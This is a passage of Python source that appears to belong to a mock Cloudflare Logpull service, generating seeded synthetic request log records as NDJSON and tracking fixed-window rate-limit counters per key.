        total += sum(1 for _ in self.keys(start_ns, first * NS))
        total += sum(1 for _ in self.keys(last * NS, end_ns))
        return total

    # -- records ------------------------------------------------------------------------

    @property
    def pool(self) -> list[dict[str, Any]]:
        """The zone's seeded variants (built on first use)."""
        if self._pool is None:
            rng = random.Random(_salt(self.seed, self.zone_id, "pool"))
            self._pool = [variant(rng, self.zone_name) for _ in range(POOL)]
        return self._pool

    def template(self, fmt: LineFormat) -> Template:
        """The (cached) byte template of a LineFormat."""
        tmpl = self._templates.get(fmt)
        if tmpl is None:
            if len(self._templates) >= 32:
                self._templates.clear()
            tmpl = self._templates[fmt] = Template(fmt, self.pool)
        return tmpl

    @staticmethod
    def _times(ray: int, recv: int, duration: int) -> tuple[int, int]:
        end = recv - 20_000_000 - (ray >> 24) % 4_980_000_000
        return end - duration, end

    def record(self, ray: int, recv: int) -> dict[str, Any]:
        """The full record (every field, unixnano timestamps) of one key."""
        v = dict(self.pool[(ray >> 40) & _POOL_MASK])
        start, end = self._times(ray, recv, int(v.pop("_dur_ns")))
        v.update(RayID=f"{ray:016x}", EdgeStartTimestamp=start, EdgeEndTimestamp=end,
                 ClientSrcPort=1024 + (ray >> 8) % 64000)
        return v

    def _rfc3339(self, ns: int) -> bytes:
        sec = ns // NS
        out = self._ts_cache.get(sec)
        if out is None:
            if len(self._ts_cache) > 100_000:
                self._ts_cache.clear()
            text = datetime.fromtimestamp(sec, UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
            out = self._ts_cache[sec] = b'"' + text.encode() + b'"'
        return out

    def lines(self, fmt: LineFormat, start_ns: int, end_ns: int, *,
              sample: float = 1.0, count: int | None = None,
              batch_bytes: int = 256 * 1024) -> Iterator[list[bytes]]:
        """NDJSON lines of the window in batches of about `batch_bytes` (lazy)."""
        if count is not None and count <= 0:
            return
        tmpl = self.template(fmt)
        formats, durations, pick = tmpl.formats, tmpl.durations, tmpl.pick
        ts = fmt.timestamps
        keep_below = None if sample >= 1.0 else int(sample * (1 << 64))
        want_times = any(s in tmpl.slots for s in TIMESTAMP_FIELDS)
        no_slots = not tmpl.slots
        left = -1 if count is None else count
        per_batch = max(1, batch_bytes // max(1, tmpl.approx_line))
        out: list[bytes] = []
        append = out.append
        rfc = self._rfc3339
        sb = eb = b""
        for ray, recv in self.keys(start_ns, end_ns):
            if keep_below is not None and ray >= keep_below:
                continue
            v = (ray >> 40) & _POOL_MASK
            if no_slots:
                append(formats[v])
            else:
                if want_times:
                    end = recv - 20_000_000 - (ray >> 24) % 4_980_000_000
                    start = end - durations[v]
                    if ts == "unixnano":
                        sb, eb = b"%d" % start, b"%d" % end
                    elif ts == "unix":
                        sb, eb = b"%d" % (start // NS), b"%d" % (end // NS)
                    else:
                        sb, eb = rfc(start), rfc(end)
                append(formats[v] % pick((b'"%016x"' % ray, sb, eb,
                                          b"%d" % (1024 + (ray >> 8) % 64000))))
            if len(out) >= per_batch:
                yield out
                out = []
                append = out.append
            if left > 0:
                left -= 1
                if left == 0:
                    break
        if out:
            yield out


def line_format(fields: Sequence[str], timestamps: TimestampFormat = "unixnano",
                cve: bool = False) -> LineFormat:
    """A LineFormat with duplicates removed (first occurrence wins)."""
    return LineFormat(tuple(dict.fromkeys(fields)), timestamps, cve)


class LogpullStore:
    """Every zone's ZoneLogs (rebuilt when the rate changes) and the Logpull request counters.

    Nothing about the records is stored: see ZoneLogs.
    """

    def __init__(self, seed: int, zone_ids: Sequence[str], zone_name: Callable[[str], str],
                 rps: float) -> None:
        self.seed = seed
        self.zone_ids = tuple(zone_ids)
        self._zone_name = zone_name
        self.rps = rps
        self._zones: dict[str, ZoneLogs] = {}
        #: fixed-window request counters: key -> (window start, count)
        self._windows: dict[str, tuple[datetime, int]] = {}

    def zone(self, zone_id: str) -> ZoneLogs:
        """The generator of a known zone (KeyError otherwise), at the current rate."""
        z = self._zones.get(zone_id)
        if z is None or z.rps != self.rps:
            index = self.zone_ids.index(zone_id) if zone_id in self.zone_ids else -1
            if index < 0:
                raise KeyError(zone_id)
            z = self._zones[zone_id] = ZoneLogs(self.seed, zone_id, self._zone_name(zone_id),
                                                index, self.rps)
        return z

    def hit(self, key: str, limit: int, window_s: float, now: datetime) -> float | None:
        """Count one request under `key`; seconds until the window resets if over `limit`."""
        start, count = self._windows.get(key, (now, 0))
        elapsed = (now - start).total_seconds()
        if elapsed >= window_s or elapsed < 0:
            start, count, elapsed = now, 0, 0.0
        count += 1
        self._windows[key] = (start, count)
        if count > limit:
            return window_s - elapsed
        return None

    def reset_limits(self) -> None:
        """Forget every request counter."""
        self._windows.clear()
